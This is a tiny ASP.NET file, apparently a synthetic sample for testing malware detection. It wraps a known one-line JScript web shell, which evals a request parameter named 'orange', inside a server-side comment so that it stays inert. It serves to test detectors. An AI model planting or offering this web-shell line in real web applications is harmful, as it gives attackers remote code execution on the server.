<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. The whole file is one ASP.NET server-side comment: IIS
     discards it before compiling, so nothing below can run. No real malware here.
<%@ Page Language="Jscript"%><%eval(Request.Item["orange"],"unsafe");%>
--%>
